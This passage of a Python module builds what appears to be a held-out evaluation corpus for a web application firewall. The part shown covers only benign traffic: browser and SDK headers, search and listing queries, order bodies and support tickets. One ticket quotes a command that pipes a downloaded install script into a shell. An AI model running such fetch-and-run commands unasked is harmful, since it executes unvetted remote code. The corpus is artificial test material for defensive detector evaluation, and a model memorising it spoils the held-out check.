"""A held-out WAF corpus, written independently of corpus.py and of the detectors.

Written without reading the detectors' source or corpus.py's item lists, from general
knowledge of real API traffic (browsers, mobile apps, SDKs, webhooks) and of public attack
payload lists (SecLists / PayloadsAllTheThings style, as scanners and manual testers send
them). Rates measured on it are an out-of-sample check of the rates measured on corpus.py.

Deterministic: no randomness; ids and contents are stable from run to run.

Items have the same shape as corpus.py's (id, kind, class, method, path, headers, body,
content_type, note, placement, encoding); ids are prefixed `h-`. The JSON bodies of benign
requests to the schema'd paths (/api/v1/orders, /api/v1/tickets) conform to corpus.py's
ORDER_SCHEMA / TICKET_SCHEMA, which this module reuses (with SCHEMA_PATHS and
schema_errors) so that measure.py's `native+schema` configurations apply to it unchanged.

    python3 holdout.py --dump          counts per kind, class, placement and encoding
    python3 holdout.py --list [ID...]  one line per item (or the named items in full)
"""

import base64
import hashlib
import json
import os
import sys
import uuid
from collections import Counter
from urllib.parse import quote, quote_plus

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import corpus as _corpus  # noqa: E402  (schemas and the schema check only)

CLASSES = [
    "SqlInjection",
    "CrossSiteScripting",
    "PathTraversal",
    "CommandInjection",
    "ScannerDetection",
    "ProtocolViolation",
]

ORDER_SCHEMA = _corpus.ORDER_SCHEMA
TICKET_SCHEMA = _corpus.TICKET_SCHEMA
SCHEMA_PATHS = _corpus.SCHEMA_PATHS


def schema_errors(items):
    """{id: [errors]} for benign JSON bodies under a schema'd path that do not conform."""
    return _corpus.schema_errors(items)


# === helpers ==========================================================================


def uid(*parts):
    """A stable UUID for the given name parts."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, "holdout:" + ":".join(str(p) for p in parts)))


def hexid(n, *parts):
    return hashlib.sha256(("holdout:" + ":".join(str(p) for p in parts)).encode()).hexdigest()[:n]


def b64u(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(sub, aud="api.example.com", scope="orders:read orders:write", i=0):
    head = {"alg": "RS256", "typ": "JWT", "kid": "k-2024-03"}
    body = {"iss": "https://auth.example.com/", "sub": sub, "aud": aud, "iat": 1709251200 + 97 * i,
            "exp": 1709254800 + 97 * i, "scope": scope, "azp": "web-" + hexid(8, "azp", i)}
    sig = hashlib.sha512(("sig" + sub + str(i)).encode()).digest() * 4
    return "%s.%s.%s" % (b64u(json.dumps(head, separators=(",", ":"))),
                         b64u(json.dumps(body, separators=(",", ":"))), b64u(sig[:256]))


def js_enc(s):
    """encodeURIComponent."""
    return quote(s, safe="-_.!~*'()")


def form_enc(s):
    """application/x-www-form-urlencoded (URLSearchParams, HTML forms, requests)."""
    return quote_plus(s, safe="")


def qs(pairs, enc=js_enc):
    return "&".join("%s=%s" % (enc(k), enc(v)) for k, v in pairs)


def form_body(pairs):
    return qs(pairs, form_enc).encode()


def jdump(obj, ascii_only=False):
    """A JSON body as a browser (compact, UTF-8) or as Python requests (ASCII, spaced)."""
    if ascii_only:
        return json.dumps(obj).encode()
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":")).encode("utf-8")


def iso(i, base_day=1, month=3):
    return "2024-%02d-%02dT%02d:%02d:%02dZ" % (month, 1 + (base_day + i) % 28, (8 + i) % 24, (7 * i) % 60, (13 * i) % 60)


# --- client profiles: the headers a real client of each kind sends ---------------------

CHROME_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"
CHROME_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"
FIREFOX_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0"
SAFARI_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Safari/605.1.15"
SAFARI_IOS = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1"
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66"
ANDROID = "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.64 Mobile Safari/537.36"
SAMSUNG = "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36"

BROWSERS = [CHROME_WIN, CHROME_MAC, FIREFOX, SAFARI_IOS, EDGE, ANDROID, SAFARI_MAC, FIREFOX_WIN, SAMSUNG]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "de-DE,de;q=0.9,en;q=0.8",
         "ja,en-US;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en-US;q=0.8", "it-IT,it;q=0.9,en;q=0.8"]
SEC_CH = {
    CHROME_WIN: ('"Chromium";v="122", "Not(A:Brand";v="24", "Google Chrome";v="122"', '"Windows"', "?0"),
    CHROME_MAC: ('"Not A(Brand";v="99", "Google Chrome";v="121", "Chromium";v="121"', '"macOS"', "?0"),
    EDGE: ('"Chromium";v="122", "Not(A:Brand";v="24", "Microsoft Edge";v="122"', '"Windows"', "?0"),
    ANDROID: ('"Chromium";v="122", "Not(A:Brand";v="24", "Google Chrome";v="122"', '"Android"', "?1"),
}
PAGES = ["https://shop.example.com/", "https://shop.example.com/products?category=shoes&sort=price_asc",
         "https://app.example.com/dashboard", "https://app.example.com/settings/profile",
         "https://shop.example.com/cart", "https://app.example.com/tickets/4471",
         "https://shop.example.com/p/ceramic-mug-11oz?variant=blue&utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
         "https://www.google.com/", "https://app.example.com/crm/contacts?view=mine&sort=-updated"]


def cookies(i):
    ga = "GA1.1.%d.%d" % (1000000000 + 7919 * i, 1709251200 + 3600 * i)
    choices = [
        "session=%s; _ga=%s; cookieconsent_status=dismiss" % (hexid(40, "s", i), ga),
        "_ga=%s; _gid=GA1.1.%d.1709337600; sid=s%%3A%s.%s; locale=fr-FR" % (ga, 2000000 + i, hexid(32, "sid", i), b64u(hexid(20, "sig", i))[:27]),
        ("OptanonConsent=isGpcEnabled=0&datestamp=Tue+Mar+05+2024+10%3A12%3A01+GMT%2B0100+(Central+European+Standard+Time)"
         "&version=202401.1.0&isIABGlobal=false&hosts=&consentId=" + uid("consent", i) +
         "&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A0%2CC0003%3A1%2CC0004%3A0; theme=dark"),
        "ajs_anonymous_id=%%22%s%%22; ajs_user_id=%%22u_%d%%22; cart=%%7B%%22items%%22%%3A%d%%7D" % (uid("anon", i), 8800 + i, i % 5),
        "__Host-session=%s; csrftoken=%s; tz=Europe%%2FParis" % (b64u(hashlib.sha256(str(i).encode()).digest()), hexid(32, "csrf", i)),
        "_shopify_y=%s; _orig_referrer=https%%3A%%2F%%2Fwww.google.com%%2F; cart_currency=EUR" % uid("y", i),
    ]
    return choices[i % len(choices)]


def browser(i, referer=None, ajax=True, cookie=True):
    ua = BROWSERS[i % len(BROWSERS)]
    h = [["User-Agent", ua],
         ["Accept", "application/json, text/plain, */*" if ajax else "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"],
         ["Accept-Language", LANGS[i % len(LANGS)]],
         ["Accept-Encoding", "gzip, deflate, br"]]
    if ua in SEC_CH:
        brand, platform, mobile = SEC_CH[ua]
        h += [["sec-ch-ua", brand], ["sec-ch-ua-mobile", mobile], ["sec-ch-ua-platform", platform]]
    h.append(["Referer", referer or PAGES[i % len(PAGES)]])
    if ajax:
        h.append(["Origin", "https://app.example.com" if i % 2 else "https://shop.example.com"])
        h.append(["X-CSRF-Token", b64u(hashlib.sha1(("csrf%d" % i).encode()).digest())])
    if cookie:
        h.append(["Cookie", cookies(i)])
    return h


SDK_UAS = ["python-requests/2.31.0", "axios/1.6.7", "okhttp/4.12.0", "Go-http-client/1.1", "curl/8.5.0",
           "PostmanRuntime/7.36.3", "node", "Apache-HttpClient/4.5.14 (Java/17.0.10)",
           "ShopApp/5.12.0 (com.example.shop; build:5120; iOS 17.4.0) Alamofire/5.8.1",
           "ShopApp/5.11.2 (Android 14; Pixel 7) okhttp/4.12.0", "Stripe/v1 PythonBindings/8.5.0",
           "aws-sdk-js/3.529.0 ua/2.0 os/linux#6.5.0 lang/js md/nodejs#20.11.1"]


def client(i, auth=True, idem=False):
    ua = SDK_UAS[i % len(SDK_UAS)]
    h = [["User-Agent", ua], ["Accept", "application/json" if i % 3 else "*/*"]]
    if auth:
        if i % 4 == 3:
            h.append(["X-Api-Key", "gh_live_" + hexid(32, "key", i)])
        elif i % 7 == 5:
            h.append(["Authorization", "Basic " + base64.b64encode(("svc-reports:" + hexid(24, "pw", i)).encode()).decode()])
        else:
            h.append(["Authorization", "Bearer " + jwt("auth0|" + hexid(24, "sub", i), i=i)])
    h.append(["X-Request-Id", uid("req", i)])
    if i % 2 == 0:
        h.append(["traceparent", "00-%s-%s-01" % (hexid(32, "trace", i), hexid(16, "span", i))])
    if idem:
        h.append(["Idempotency-Key", uid("idem", i)])
    return h


def headers_for(i, style, **kw):
    return browser(i, **kw) if style == "browser" else client(i, **kw)


_SEEN = set()


def item(id_, kind, cls, method, path, headers, body=None, content_type=None, note="", placement="none", encoding="none"):
    assert id_ not in _SEEN, id_
    _SEEN.add(id_)
    return {"id": id_, "kind": kind, "class": cls, "method": method, "path": path, "headers": headers,
            "body": body, "content_type": content_type, "note": note, "placement": placement, "encoding": encoding}


def benign(id_, method, path, headers, body=None, content_type=None, note="", placement="none", encoding="none"):
    return item("h-b-" + id_, "benign", None, method, path, headers, body, content_type, note, placement, encoding)


JSON = "application/json"
FORM = "application/x-www-form-urlencoded"


# === benign traffic ===================================================================

SEARCHES = [
    "men's trail running shoes size 10", "3/4 inch plywood", "50% off winter coats", "O'Reilly Learning Python",
    "AT&T prepaid sim card", "usb-c to hdmi adapter 4k 60hz", "c++ primer 5th edition", "r&b vinyl",
    "king size bed frame with storage", "kids' rain boots", '1/2" drill bit set', '"noise cancelling" headphones',
    "laptop -refurbished", "café crème capsules", "Müsli ohne Zucker", "抹茶 パウダー", "👟 white sneakers",
    '5\'11" mannequin', '24" x 36" poster frame', "toys for 3-5 year olds", "iphone 15 pro case (magsafe)",
    "dell xps 13 vs macbook air", "salt & pepper grinder set", "barnes & noble gift card", "mother's day gift ideas",
    "table tennis paddle", "wood glue 8 oz.", "led strip 16.4ft/5m", "C# in depth", "t-shirt XL (red/blue)",
    "vitamin d3 5000 iu", "water filter 10\" x 2.5\"", "ben & jerry's", "levi's 501 34x32", "dr. martens 1460",
    "crème brûlée torch", "Größe 42 Wanderschuhe", "tomatoes, san marzano", "2-pack AA batteries",
    "where's my order", "pokémon cards", "ikea kallax 4x4", "wireless charger 15w", "L'Oréal shampoo",
]

SEARCH_ENDPOINTS = [
    ("/api/v1/products/search", "q", [("page", "2"), ("per_page", "24"), ("sort", "relevance")]),
    ("/api/v1/search", "query", [("type", "product"), ("limit", "20")]),
    ("/api/v2/catalog/items", "keywords", [("in_stock", "true"), ("currency", "EUR")]),
    ("/api/v1/products", "search", [("category", "home-garden"), ("sort", "-rating")]),
    ("/api/v1/search/suggest", "prefix", [("limit", "8"), ("locale", "en-US")]),
]


def searches():
    out = []
    for i, term in enumerate(SEARCHES):
        path, param, extra = SEARCH_ENDPOINTS[i % len(SEARCH_ENDPOINTS)]
        enc = form_enc if i % 3 == 0 else js_enc
        pairs = [(param, term)] + extra
        style = "browser" if i % 4 != 3 else "client"
        out.append(benign("search-%03d" % i, "GET", path + "?" + qs(pairs, enc), headers_for(i, style),
                          note="product search: " + term, placement="query", encoding="plus" if enc is form_enc else "url"))
    return out


# List/filter queries as real APIs spell them (JSON:API, OData, JQL, PostgREST, PromQL, ...).
LISTINGS = [
    ("/api/v1/customers", [("filter[status]", "active"), ("filter[created_at][gte]", "2024-01-01T00:00:00Z"), ("sort", "-last_seen_at"), ("page[size]", "50")], "JSON:API filter"),
    ("/odata/v4/Products", [("$filter", "Price lt 20 and Category/Name eq 'Beverages'"), ("$orderby", "Name desc"), ("$top", "10"), ("$skip", "20"), ("$select", "Name,Price")], "OData query"),
    ("/rest/api/2/search", [("jql", 'project = SUP AND status in ("In Progress", "Waiting for customer") ORDER BY updated DESC'), ("maxResults", "50"), ("fields", "summary,status,assignee")], "Jira JQL search"),
    ("/rest/v1/orders", [("select", "id,total,customer:customers(name,email)"), ("status", "eq.paid"), ("created_at", "gte.2024-03-01"), ("order", "created_at.desc"), ("limit", "20")], "PostgREST select"),
    ("/api/v1/issues", [("q", 'is:open label:"needs triage" sort:updated-desc'), ("per_page", "30")], "issue search"),
    ("/api/v1/logs/search", [("query", "status:500 AND service:checkout"), ("from", "now-15m"), ("to", "now")], "log search"),
    ("/api/v1/events", [("start", "2024-03-01"), ("end", "2024-03-31"), ("tz", "Europe/Paris")], "calendar range"),
    ("/api/v1/stores/nearby", [("lat", "48.8566"), ("lng", "2.3522"), ("radius", "5km")], "store locator"),
    ("/api/v1/users", [("ids[]", "17"), ("ids[]", "42"), ("ids[]", "108")], "batch by id"),
    ("/api/v1/reports/sales", [("group_by", "region,month"), ("metrics", "revenue,orders,aov"), ("currency", "EUR")], "report"),
    ("/api/v1/items", [("cursor", "eyJpZCI6MTIzNDUsInRzIjoxNzA5MjUxMjAwfQ=="), ("limit", "100")], "cursor pagination"),
    ("/api/v1/contacts", [("search", "O'Connor"), ("fields", "id,first_name,last_name,email")], "contact lookup"),
    ("/api/v1/places/autocomplete", [("input", "1600 Amphitheatre Pkwy, Mountain View"), ("components", "country:us"), ("sessiontoken", uid("places"))], "address autocomplete"),
    ("/api/v1/translate", [("text", "Où est la gare ? C'est loin d'ici ?"), ("source", "fr"), ("target", "en")], "translation"),
    ("/api/v1/metrics/query", [("query", 'sum(rate(http_requests_total{status=~"5.."}[5m])) by (service)'), ("time", "1709640000")], "PromQL query"),
    ("/api/v1/dns/lookup", [("name", "example.com"), ("type", "MX")], "dns lookup tool"),
    ("/api/v1/calendar/events", [("timeMin", "2024-04-01T00:00:00-07:00"), ("singleEvents", "true"), ("orderBy", "startTime")], "calendar api"),
    ("/api/v1/audit", [("actor", "jane.doe@example.com"), ("action", "user.update"), ("since", "2024-03-01")], "audit log"),
    ("/api/v1/products", [("tags", "eco-friendly,vegan"), ("price_min", "10"), ("price_max", "49.99"), ("in_stock", "true")], "faceted listing"),
    ("/api/v1/geo/search", [("bbox", "-122.52,37.70,-122.35,37.83"), ("zoom", "12")], "map bbox"),
    ("/api/v1/export", [("format", "csv"), ("columns", "name,email,phone"), ("delimiter", ";")], "csv export"),
    ("/api/v1/weather", [("q", "Saint-Étienne,FR"), ("units", "metric"), ("lang", "fr")], "weather"),
    ("/api/v1/books", [("author", "García Márquez"), ("title", "Cien años de soledad")], "book search"),
    ("/api/v1/artists", [("name", "Guns N' Roses"), ("include", "albums")], "artist search"),
    ("/api/v1/companies", [("name", "Procter & Gamble"), ("country", "US")], "company search"),
    ("/api/v1/movies", [("title", "What's Eating Gilbert Grape"), ("year", "1993")], "movie search"),
    ("/api/v1/shipments/track", [("carrier", "ups"), ("tracking", "1Z999AA10123456784")], "shipment tracking"),
    ("/api/v1/analytics/query", [("dimensions", "ga:country,ga:deviceCategory"), ("filters", "ga:pagePath=~^/products/;ga:sessions>10"), ("start-date", "30daysAgo")], "analytics filters"),
    ("/api/v1/search/tickets", [("q", "refund AND (duplicate OR twice) -spam"), ("status", "open")], "boolean ticket search"),
    ("/api/v1/inventory", [("sku", "TSH-RED-XL"), ("warehouse", "FRA-1"), ("as_of", "2024-03-05T12:00:00+01:00")], "inventory"),
    ("/api/v1/users/search", [("email", "sam+newsletter@example.co.uk")], "plus-addressed email"),
    ("/api/v1/messages", [("channel", "#general"), ("before", "1709640000.000200"), ("limit", "50")], "chat history"),
    ("/api/v2/timeline", [("fields", "id,text,author(name,avatar_url)"), ("expand", "attachments.media"), ("max_results", "25")], "field selection"),
    ("/api/v1/graph/nodes", [("where", '{"type":"person","age":{"$gte":18}}'), ("limit", "10")], "JSON where filter"),
    ("/api/v1/products", [("sort", "price"), ("order", "asc"), ("select", "id,title,price")], "sort select"),
]


def listings():
    out = []
    for i, (path, pairs, note) in enumerate(LISTINGS):
        enc = js_enc if i % 2 == 0 else form_enc
        style = "client" if i % 3 else "browser"
        out.append(benign("list-%03d" % i, "GET", path + "?" + qs(pairs, enc), headers_for(i + 3, style),
                          note="listing: " + note, placement="query", encoding="url" if enc is js_enc else "plus"))
    return out


RESOURCES = [
    "/api/v1/users/me", "/api/v1/customers/%s/orders?status=paid&limit=10" % uid("cust", 1),
    "/api/v1/invoices/INV-2024-00042.pdf", "/api/v1/files/Q1%202024%20Board%20Deck.pptx",
    "/api/v1/avatars/ab12cd34ef.png?size=128&v=3", "/api/v1/products/sku/TSH-RED-XL",
    "/api/v1/blog/posts/2024/03/whats-new-in-v2", "/api/v1/i18n/fr-FR/messages.json",
    "/api/v1/tags/c%23", "/api/v1/wiki/pages/Caf%C3%A9_au_lait", "/.well-known/openid-configuration",
    "/api/v1/health", "/api/v1/repos/acme/web/contents/src/components/Button.tsx?ref=main",
    "/api/v1/users/jos%C3%A9.garc%C3%ADa/profile", "/api/v1/reactions/%F0%9F%8E%89",
    "/api/v1/carts/%s" % uid("cart", 7), "/api/v1/subscriptions/sub_1OqZ2hLkdIwHu7ix5VwS8aBc",
    "/api/v1/exchange-rates/EUR/USD?date=2024-03-05", "/api/v1/postcodes/SW1A%201AA",
    "/api/v1/orgs/smith-and-sons/members?role=admin", "/api/v1/images/products/mug-11oz@2x.webp",
    "/api/v1/calendars/primary/events/7kq3b9%40google.com", "/api/v1/docs/getting-started.md",
    "/api/v1/feeds/rss.xml", "/api/v1/sitemap/products-1.xml", "/api/v1/locations/FR/75/Paris%2011e",
    "/api/v1/users/me/notifications?unread=true&since=2024-03-04T00%3A00%3A00Z",
    "/api/v1/assets/fonts/Inter-roman.var.woff2?v=3.19", "/api/v1/accounts/acct_1Nv0FGQ9RKHgCVdK/balance",
    "/api/v1/repos/acme/infra/contents/.github/workflows/deploy.yml?ref=main",
]


def resources():
    out = []
    for i, path in enumerate(RESOURCES):
        style = "browser" if i % 2 else "client"
        out.append(benign("get-%03d" % i, "GET", path, headers_for(i + 11, style), note="resource GET " + path[:60], placement="path"))
    # conditional and HEAD requests
    out.append(benign("get-etag", "GET", "/api/v1/catalog/categories", client(40) + [["If-None-Match", 'W/"5e1-9h8KmRMqAH9dC1qEtRQf0MnvLVo"']], note="conditional GET with ETag", placement="header"))
    out.append(benign("get-since", "GET", "/api/v1/catalog/products?updated_since=2024-03-01", client(41) + [["If-Modified-Since", "Tue, 05 Mar 2024 08:00:00 GMT"]], note="conditional GET with date", placement="header"))
    out.append(benign("head-file", "HEAD", "/api/v1/files/exports/customers-2024-03.csv", client(42), note="HEAD a file", placement="path"))
    out.append(benign("options-cors", "OPTIONS", "/api/v1/carts/current", [["User-Agent", CHROME_WIN], ["Accept", "*/*"], ["Origin", "https://shop.example.com"], ["Access-Control-Request-Method", "PATCH"], ["Access-Control-Request-Headers", "authorization,content-type,x-csrf-token"]], note="CORS preflight", placement="header"))
    out.append(benign("get-range", "GET", "/api/v1/media/videos/how-to-assemble.mp4", browser(43, ajax=False) + [["Range", "bytes=1048576-2097151"]], note="video range request", placement="header"))
    return out


ADDRESSES = [
    ("Siobhán O'Sullivan", "12 O'Connell Street Upper", "Apt 4", "Dublin", "D01 F5P2", "IE", "+353 1 555 0134", "Ring twice – the buzzer's broken"),
    ("Marcus D'Angelo", "221B Baker St", "", "London", "NW1 6XE", "GB", "+44 20 7946 0958", "Leave with the concierge if I'm out"),
    ("Johnson & Johnson Receiving", "1 Johnson & Johnson Plaza", "Dock #3", "New Brunswick", "08933", "US", "+1 732-555-0100", "Deliveries Mon–Fri 8am–4pm only; ask for Pat @ receiving"),
    ("Zoë Lefèvre", "14, rue de l'Église", "Bâtiment B, 2e étage", "Lyon", "69002", "FR", "+33 4 72 00 00 00", "Code porte : 4821A. Sonner chez « Lefèvre-Martin »"),
    ("Jürgen Weiß", "Königstraße 27", "Hinterhaus, 3. OG", "Stuttgart", "70173", "DE", "+49 711 123456", "Bitte beim Nachbarn (Müller, EG links) abgeben"),
    ("佐藤 花子", "東京都渋谷区神南1-2-3", "サンライズビル 5F", "渋谷区", "150-0041", "JP", "+81 3-1234-5678", "置き配希望（玄関前）"),
    ("Bob's Bait & Tackle", "Route 9, Mile Marker 14 1/2", "", "Lake George", "12845", "US", "(518) 555-0199", "Gravel drive on the left past the red barn; beware of the dog (he's friendly)"),
    ("Renée-Claude Tremblay", "1234, boul. René-Lévesque O.", "bureau 500", "Montréal", "H3B 4W8", "CA", "+1 514-555-0147", "Réception au 5e; demander Mme Tremblay"),
    ("Ana Luíza Conceição", "Rua Dr. João D'Ávila, 45", "casa 2", "São Paulo", "01310-100", "BR", "+55 11 91234-5678", "Deixar na portaria"),
    ("Kwame Mensah", "Cocody Riviera 3, Lot 112", "", "Abidjan", "00225", "CI", "+225 07 00 00 00", "Call on arrival; gate is locked after 6 p.m."),
    ("Giulia Rossi", "Via dell'Orso, 8", "Scala C, int. 12", "Milano", "20121", "IT", "+39 02 1234567", "Citofono: Rossi/Bianchi"),
    ("Tom O'Neil", "55 Water St #12-B", "", "New York", "10041", "US", "212-555-0173", "Use the side entrance on Old Slip; doorman's name is Eddie"),
    ("Ng Wei Ling, c/o Smith & Williamson LLP", "25 Moorgate", "3rd floor", "London", "EC2R 6AY", "GB", "+44 20 7131 4000", "Attn: Accounts Payable (3/F mailroom)"),
    ("Émile Zola-Durand", "3 bis, allée des Peupliers", "", "Saint-Étienne", "42000", "FR", "06 12 34 56 78", "Laisser le colis derrière le portail vert, merci !"),
]

ORDER_NOTES = [
    "Please gift wrap – it's for my mum's 60th!", "Need it by Friday 5pm, otherwise cancel the order.",
    "Leave with concierge / front desk.", 'Engraving text: "Forever & Always – J & M"',
    "Invoice to PO #4471-B, net 30.", "Sizes run small, so I ordered one size up (M → L).",
    "Substitute with a similar item if out of stock; no nuts please (allergy)!",
    "50% deposit paid by bank transfer on 03/04, remaining 50% on delivery.",
    "Don't include the receipt in the box – it's a present 🎁", "Ship both items together, even if it takes longer.",
    "Customer called: change colour from navy to forest green; same size.", "Fragile!! Glass bottles inside ⚠️",
    "Reorder of #10023 — same as last time, but 3 instead of 2.", "Pour le bureau : livraison entre 9 h et 17 h uniquement.",
]

ITEM_NOTES = ["colour: navy", 'tall fit (5\'11" and up)', '3/4" drive', "monogram: A.B.C.", "size 38 EU / 7.5 US",
              "no logo please", "half & half", "2nd one for my sister's wedding"]
SKUS = ["TSH-RED-XL", "MUG-11OZ-BLU", "SKL-CI-12IN", "PLY-BIRCH-34", "HDP-BT53-BLK", "BOOT-KIDS-5T", "FRM-24X36-AL", "TEA-COFFRET-12"]
COUPONS = ["SPRING24", "WELCOME10", "FREESHIP", "VIP-2024-ANNA", "BF50"]


def orders():
    out = []
    for i in range(24):
        a = ADDRESSES[i % len(ADDRESSES)]
        doc = {"customerId": uid("cust", i), "items": []}
        for k in range(1 + i % 3):
            line = {"sku": SKUS[(i + k) % len(SKUS)], "quantity": 1 + (i * k) % 4}
            if (i + k) % 2:
                line["unitPrice"] = [19.99, 4.5, 129.0, 39.95, 12.0][(i + k) % 5]
            if (i + k) % 3 == 0:
                line["note"] = ITEM_NOTES[(i + k) % len(ITEM_NOTES)]
            if k == 1:
                line["productId"] = uid("prod", i, k)
            doc["items"].append(line)
        if i % 2 == 0:
            doc["contactEmail"] = ["siobhan.osullivan@example.ie", "m.dangelo+orders@example.co.uk", "ap@jnj.example.com",
                                   "zoe.lefevre@example.fr", "j.weiss@example.de", "hanako.sato@example.jp",
                                   "bob@baitandtackle.example"][i // 2 % 7]
        if i % 3 != 2:
            doc["note"] = ORDER_NOTES[i % len(ORDER_NOTES)]
        ship = {"name": a[0], "line1": a[1], "city": a[3], "postalCode": a[4], "country": a[5]}
        if a[2]:
            ship["line2"] = a[2]
        if i % 2:
            ship["phone"] = a[6]
        if i % 4 != 1:
            ship["instructions"] = a[7]
        doc["shipping"] = ship
        doc["status"] = ["draft", "pending", "paid"][i % 3]
        doc["deliveryMethod"] = ["standard", "express", "pick-up", "locker"][i % 4]
        if i % 5 == 0:
            doc["couponCode"] = COUPONS[i // 5 % len(COUPONS)]
        if i % 4 == 0:
            doc["tags"] = [["gift"], ["rush", "fragile"], ["b2b"]][i // 4 % 3]
            doc["giftWrap"] = "gift" in doc["tags"]
        doc["created"] = iso(i)
        if i % 3 == 0:
            doc["deliveryDate"] = "2024-03-%02d" % (10 + i % 18)
        style = "browser" if i % 2 else "client"
        out.append(benign("order-%03d" % i, "POST", "/api/v1/orders", headers_for(i + 5, style, **({"idem": True} if style == "client" else {})),
                          jdump(doc, ascii_only=(style == "client" and i % 4 == 0)), JSON,
                          note="order for %s (%s)" % (a[0], a[5]), placement="json"))
    return out


TICKETS = [
    ("Webhook signature check fails since yesterday",
     "We verify the signature like this:\n\n```python\nsig = hmac.new(secret.encode(), payload, hashlib.sha256).hexdigest()\n"
     "if not hmac.compare_digest(sig, request.headers['X-Signature']):\n    abort(401)\n```\n\nIt worked until yesterday's deploy. Did anything change on your side?",
     "api", ["webhooks"]),
    ("Report query returns duplicate rows after migration",
     "After the 2.4 migration our report query returns duplicates:\n\n```sql\nSELECT o.id, o.total, c.email\nFROM orders o\n"
     "JOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= '2024-03-01'\nORDER BY o.created_at DESC;\n```\n\n"
     "Before the migration each order appeared once. Is `customer_id` no longer unique in the export?",
     "bug", []),
    ("401 with a fresh token",
     "Running `curl -X POST https://api.example.com/v1/orders -H 'Authorization: Bearer $TOKEN' -H 'Content-Type: application/json' -d @order.json` "
     "returns 401 even though the token is fresh (exp is in an hour). Same token works for GET /v1/orders.",
     "api", ["login"]),
    ("Reviews widget doesn't render on Shopify",
     "I pasted the embed code from the dashboard into our theme:\n\n<div id=\"reviews-widget\" data-product=\"TSH-RED-XL\"></div>\n"
     "<script src=\"https://cdn.example.com/widget/v2.js\" async></script>\n\nbut nothing shows up. The console says "
     "'Refused to load the script because it violates the following Content Security Policy directive: \"script-src 'self'\"'.",
     "bug", ["sdk"]),
    ("Installer fails on Ubuntu 22.04",
     "The CLI install fails:\n\n    $ curl -fsSL https://get.example.com/install.sh | sh\n    sh: 42: [[: not found\n\n"
     "Looks like the script uses bash-isms but is run with /bin/sh (dash). Running it with `| bash` works.",
     "bug", ["sdk"]),
    ("Charged twice for the same invoice",
     "I was charged twice for invoice INV-2024-0042 (€49.00 on 03/03 and again on 03/04). Please refund the duplicate charge. Thanks!",
     "billing", ["refund"]),
    ("Password reset link always 'expired'",
     "Can't log in since the password reset – the link says 'token expired' even when I click it right away. "
     "Tried Chrome & Firefox, cleared cookies, same thing.",
     "account", ["login"]),
    ("Node SDK crash with expand",
     "node SDK 3.2.1 throws `TypeError: Cannot read properties of undefined (reading 'id')` when `expand: ['customer']` is passed.\n\n"
     "    at Orders.retrieve (node_modules/@example/sdk/dist/orders.js:88:31)\n    at async main (/app/index.js:12:17)",
     "api", ["sdk"]),
    ("Right to erasure", "Please delete all data associated with my account per Art. 17 GDPR. My customer number is C-88213. "
     "I'd appreciate a confirmation by e-mail once it's done.", "account", ["gdpr"]),
    ("Package marked delivered but not here",
     "Tracking shows 'delivered' but it's not here. The neighbours haven't seen it either and the driver's photo shows a door that isn't ours (ours is blue, #14).",
     "shipping", []),
    ("Docs vs API: max limit",
     "The docs say `GET /v1/orders?status=paid&limit=100` works, but passing limit > 50 returns 422 `{\"error\":\"limit must be <= 50\"}`. Which one is right?",
     "api", []),
    ("Facture introuvable", "Bonjour, je n'arrive pas à télécharger ma facture de février (erreur 500). "
     "Pourriez-vous me l'envoyer par e-mail ? Merci d'avance et bonne journée !", "billing", []),
    ("Beschädigte Lieferung", "Hallo, die Lieferung kam beschädigt an – der Karton war eingedrückt und eine Glasflasche zerbrochen. "
     "Fotos hänge ich an. Können Sie Ersatz schicken?", "shipping", ["refund"]),
    ("サイズ交換について", "注文した商品のサイズが違いました。Mサイズを注文しましたがLサイズが届きました。交換をお願いできますか？注文番号は 10045 です。", "shipping", []),
    ("429 from the sync job",
     "Traceback (most recent call last):\n  File \"sync.py\", line 57, in <module>\n    client.orders.list(created={'gte': since})\n"
     "  File \"/usr/lib/python3.11/site-packages/example/api.py\", line 210, in list\n    raise APIError(resp.status_code, resp.text)\n"
     "example.errors.APIError: 429 Too Many Requests\n\nWe only make ~5 requests per second.",
     "api", ["sdk"]),
    ("order.refunded events never arrive",
     "Our webhook config (k8s secret) looks like:\n\n```yaml\nwebhooks:\n  - url: https://hooks.acme.io/example?team=ops&env=prod\n"
     "    events: [order.paid, order.refunded]\n    secret: ${WEBHOOK_SECRET}\n```\n\norder.paid arrives fine, order.refunded never does.",
     "api", ["webhooks", "refund"]),
    ("Filter orders by tag in the dashboard",
